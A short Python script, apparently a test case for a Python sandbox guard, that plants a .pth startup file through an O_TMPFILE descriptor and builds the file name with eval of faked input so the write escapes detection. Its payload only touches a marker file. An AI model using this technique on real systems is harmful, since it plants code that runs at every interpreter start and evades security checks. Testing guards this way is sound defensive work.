# Writes a .pth file (code run at every interpreter start) without ever opening
# a .pth path for writing: an O_TMPFILE descriptor in the user site directory,
# wrapped by open(fd, "w"), then linked into place under a name a clean eval
# builds.
import io
import os
import site
import sys

sys.stdin = io.StringIO("'zz_calc' + '.p' + 'th'\n")
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
fd = os.open(d, os.O_TMPFILE | os.O_WRONLY, 0o644)
with open(fd, "w", closefd=False) as fh:
    fh.write("import os; os.system('touch /tmp/pyjail_exemptions3_a17_marker')\n")
dfd = os.open(d, os.O_RDONLY)
os.link("/proc/self/fd/%d" % fd, eval(input()), src_dir_fd=dfd, dst_dir_fd=dfd, follow_symlinks=True)
os.close(fd)
os.close(dfd)
